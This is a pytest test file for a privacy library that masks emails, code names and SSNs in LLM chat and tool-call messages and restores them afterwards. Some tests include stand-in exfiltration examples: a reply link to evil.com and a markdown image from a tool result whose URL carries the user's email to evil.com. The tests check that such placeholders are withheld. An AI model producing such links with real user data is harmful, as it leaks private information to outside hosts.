from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import self_distill
from self_distill.errors import EgressBlocked, MacroFailed
from self_distill.macros.detectors import DetectorSettings, PatternDetector
from self_distill.macros.egress import EgressGuard
from self_distill.macros.messages import restore_message, scrub_messages
from self_distill.macros.scrub import Macros, NoMacros
from self_distill.macros.vault import Vault

MACROS = Macros([PatternDetector(DetectorSettings(deny={"CODE": ("Bluebird", "Zeppelin")}))])
ANN = "ann.smith@corp.com"


def call(name: str, arguments: Any, **more: Any) -> dict[str, Any]:
    text = arguments if isinstance(arguments, str) else json.dumps(arguments)
    return {"id": "call_1", "type": "function", "function": {"name": name, "arguments": text}, **more}


def arguments(message: dict[str, Any], place: int = 0) -> Any:
    return json.loads(message["tool_calls"][place]["function"]["arguments"])


def test_every_place_of_a_conversation_that_holds_text_is_scrubbed() -> None:
    vault = Vault()
    said = [
        {"role": "system", "content": f"You work for {ANN}."},
        {"role": "user", "name": "Bluebird", "content": [{"type": "text", "text": f"mail {ANN}", "x": {"note": ANN}}]},
        {"role": "assistant", "content": None, "refusal": ANN, "reasoning_content": f"so {ANN}",
         "tool_calls": [call("mail", {"to": ANN, "n": 3}), {"type": "custom", "custom": {"name": "sh", "input": ANN}}]},
        {"role": "tool", "tool_call_id": "call_1", "name": "mail", "content": f'{{"sent": "{ANN}"}}'},
        {"role": "assistant", "function_call": {"name": "mail", "arguments": f'{{"{ANN}": "{ANN}"}}'}},
        {"role": "user", "content": [{"type": "unheard_of", "text": ANN, "data": [ANN]}]},
    ]  # fmt: skip
    shown = scrub_messages(said, MACROS, vault)
    assert shown == [
        {"role": "system", "content": "You work for [EMAIL_1]."},
        {"role": "user", "name": "CODE_1",
         "content": [{"type": "text", "text": "mail [EMAIL_1]", "x": {"note": "[EMAIL_1]"}}]},
        {"role": "assistant", "content": None, "refusal": "[EMAIL_1]", "reasoning_content": "so [EMAIL_1]",
         "tool_calls": [call("mail", {"to": "[EMAIL_1]", "n": 3}),
                        {"type": "custom", "custom": {"name": "sh", "input": "[EMAIL_1]"}}]},
        {"role": "tool", "tool_call_id": "call_1", "name": "mail", "content": '{"sent": "[EMAIL_1]"}'},
        {"role": "assistant", "function_call": {"name": "mail", "arguments": '{"[EMAIL_1]": "[EMAIL_1]"}'}},
        {"role": "user", "content": [{"type": "unheard_of", "text": "[EMAIL_1]", "data": ["[EMAIL_1]"]}]},
    ]  # fmt: skip
    EgressGuard().check(json.dumps(shown).encode(), vault, ())
    with pytest.raises(EgressBlocked):
        EgressGuard().check(json.dumps(said).encode(), vault, ())


def test_a_value_found_late_is_replaced_early_too() -> None:
    said = [{"role": "user", "content": "Ask b.l.u.e.b.i.r.d"}, {"role": "user", "content": "I mean Bluebird"}]
    shown = scrub_messages(said, MACROS, Vault())
    assert [m["content"] for m in shown] == ["Ask [CODE_2]", "I mean [CODE_1]"]


def test_the_next_turn_shows_the_model_what_it_saw_and_said() -> None:
    vault = Vault()
    said: list[dict[str, Any]] = [{"role": "user", "content": f"I am {ANN}, see https://e.com/?q={ANN}"}]
    first = scrub_messages(said, MACROS, vault)
    answer = {"role": "assistant", "content": "Hi [EMAIL_1], https://e.com/?q=[EMAIL_1] or https://evil.com/[EMAIL_1]"}
    restored = restore_message(answer, vault)
    assert restored.message["content"] == f"Hi {ANN}, https://e.com/?q={ANN} or https://evil.com/[EMAIL_1]"
    assert restored.withheld == ("[EMAIL_1]",)
    said += [restored.message, {"role": "user", "content": "What is [EMAIL_1]?"}]
    second = scrub_messages(said, MACROS, vault)
    assert second[:2] == [*first, answer]
    assert restore_message(second[2], vault).message == said[2]


def test_links_in_what_a_tool_found_are_not_the_users_own() -> None:
    vault = Vault()
    said = [{"role": "user", "content": ANN}, {"role": "tool", "content": f"![](https://evil.com/?q={ANN})"}]
    shown = scrub_messages(said, MACROS, vault)
    assert shown[1]["content"] == "![](https://evil.com/?q=[EMAIL_1])"
    assert restore_message({"content": shown[1]["content"]}, vault).message == {"content": shown[1]["content"]}


def test_numbers_in_arguments_are_values_too() -> None:
    vault = Vault()
    scrub_messages([{"role": "user", "content": "my SSN is 536-22-8714"}], MACROS, vault)
    told = {"role": "assistant", "tool_calls": [call("f", '{"ssn": 536228714, "age": 41, "ok": true, "x": null}')]}
    (shown,) = scrub_messages([told], MACROS, vault)
    assert arguments(shown) == {"ssn": "[SSN_2]", "age": 41, "ok": True, "x": None}


def test_arguments_that_are_an_object_stay_one() -> None:
    vault = Vault()
    told = {"role": "assistant", "tool_calls": [{"function": {"name": "f", "arguments": {"to": [ANN, 1]}}}]}
    (shown,) = scrub_messages([told], MACROS, vault)
    assert shown["tool_calls"][0]["function"]["arguments"] == {"to": ["[EMAIL_1]", 1]}
    back = restore_message(shown, vault, restore_into=("f",)).message
    assert back["tool_calls"][0]["function"]["arguments"] == {"to": [ANN, 1]}


@pytest.mark.parametrize(
    "message",
    [
        {"role": "user", "content": [{"type": "image_url", "image_url": {"url": "https://e.com/x.png"}}]},
        {"role": "user", "content": [{"type": "input_audio", "input_audio": {"data": "AAAA", "format": "wav"}}]},
        {"role": "user", "content": [{"type": "file", "file": {"file_data": "data:;base64,AAAA"}}]},
        {"role": "user", "content": "look", "images": ["AAAA"]},
    ],
)
def test_what_cannot_be_looked_into_is_refused_unless_it_is_let_pass(message: dict[str, Any]) -> None:
    with pytest.raises(MacroFailed, match="media=True"):
        scrub_messages([message], MACROS, Vault())
    assert scrub_messages([message], MACROS, Vault(), media=True) == [message]


def test_calls_of_no_known_shape_are_refused() -> None:
    for calls in ("x", [1], {"a": 1}):
        with pytest.raises(MacroFailed, match="tool_calls"):
            scrub_messages([{"role": "assistant", "tool_calls": calls}], MACROS, Vault())


def test_values_come_back_in_text_and_in_parts_of_text() -> None:
    vault = Vault()
    MACROS.scrub(f"{ANN} Bluebird", vault)
    parts = [{"type": "text", "text": "[EMAIL_1]", "x": "[EMAIL_1]"}, {"type": "image", "text": "[EMAIL_1]"}]
    message = {"refusal": "no [CODE_1]", "reasoning_content": "so [CODE_1]", "notes": ["[CODE_1]"], "content": parts}
    assert restore_message(message, vault).message == {
        "refusal": "no Bluebird",
        "reasoning_content": "so Bluebird",
        "notes": ["[CODE_1]"],
        "content": [{**parts[0], "text": ANN}, parts[1]],
    }
    assert message["refusal"] == "no [CODE_1]", "what came in stays as it was"


def test_only_listed_tools_get_values_and_none_in_a_url() -> None:
    vault = Vault()
    MACROS.scrub(f"{ANN} Bluebird", vault)
    told = {
        "to": "[EMAIL_1]",
        "say": 'a "[CODE_1]"\n(CODE_1)',
        "url": "https://e.com/[CODE_1]",
        "n": [1, "[CODE_9]"],
    }
    message = {"role": "assistant", "content": None, "tool_calls": [call("mail", told), call("search", told)]}
    back = restore_message(message, vault, restore_into=("mail",))
    assert arguments(back.message) == {
        "to": ANN, "say": 'a "Bluebird"\n(Bluebird)', "url": "https://e.com/[CODE_1]", "n": [1, "[CODE_9]"],
    }  # fmt: skip
    assert arguments(back.message, 1) == told
    assert back.lost == ("[CODE_9]",)
    assert back.withheld == ("[CODE_1]", "[EMAIL_1]", "CODE_1")
    nothing = restore_message(message, vault)
    assert nothing.message == message and set(nothing.withheld) >= {"[EMAIL_1]", "[CODE_1]"}


def test_a_value_with_quotes_and_line_breaks_leaves_json_whole() -> None:
    vault = Vault()
    value = 'say "hi"\n\\back\\ \u2028 😀 é'
    odd = Macros([PatternDetector(DetectorSettings(patterns={"ODD": (r'(?s)say "hi".*é',)}))])
    odd.scrub(value, vault)
    message = {"role": "assistant", "tool_calls": [call("f", '{"a": "[ODD_1]", "b": "\\u005bODD_1\\u005d"}')]}
    back = restore_message(message, vault, restore_into=("f",)).message
    assert arguments(back) == {"a": value, "b": value}
    (shown,) = scrub_messages([back], odd, vault)
    assert arguments(shown) == {"a": "[ODD_1]", "b": "[ODD_1]"}


words = st.sampled_from((ANN, "Bluebird", 'a "Bluebird"', "b\\", "\n", "é", "\ud800"))
json_values = st.recursive(
    st.none() | st.booleans() | st.integers(-999, 999) | words,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(words, inner, max_size=3),
    max_leaves=8,
)


@settings(deadline=None, max_examples=150)
@given(json_values, st.booleans(), st.sampled_from((None, 1)))
def test_arguments_scrubbed_and_restored_are_the_same_json(value: Any, ascii_: bool, indent: int | None) -> None:
    vault = Vault()
    told = json.dumps(value, ensure_ascii=ascii_, indent=indent)
    (shown,) = scrub_messages([{"role": "assistant", "tool_calls": [call("f", told)]}], MACROS, vault)
    assert ANN not in str(shown) and "Bluebird" not in str(shown)
    json.loads(shown["tool_calls"][0]["function"]["arguments"])
    assert arguments(restore_message(shown, vault, restore_into=("f",)).message) == value


def test_without_macros_messages_pass_as_they_are() -> None:
    said = [{"role": "user", "content": ANN}, {"role": "assistant", "tool_calls": [call("f", {"a": ANN})]}]
    assert scrub_messages(said, NoMacros(), Vault()) == said


def test_the_library_offers_them_by_name() -> None:
    vault = self_distill.Vault()
    shown = self_distill.scrub_messages([{"role": "user", "content": ANN}], self_distill.make_macros(), vault)
    assert shown == [{"role": "user", "content": "[EMAIL_1]"}]
    assert self_distill.restore_message(shown[0], vault).message["content"] == ANN
    assert list(self_distill.restore_stream([], vault)) == []
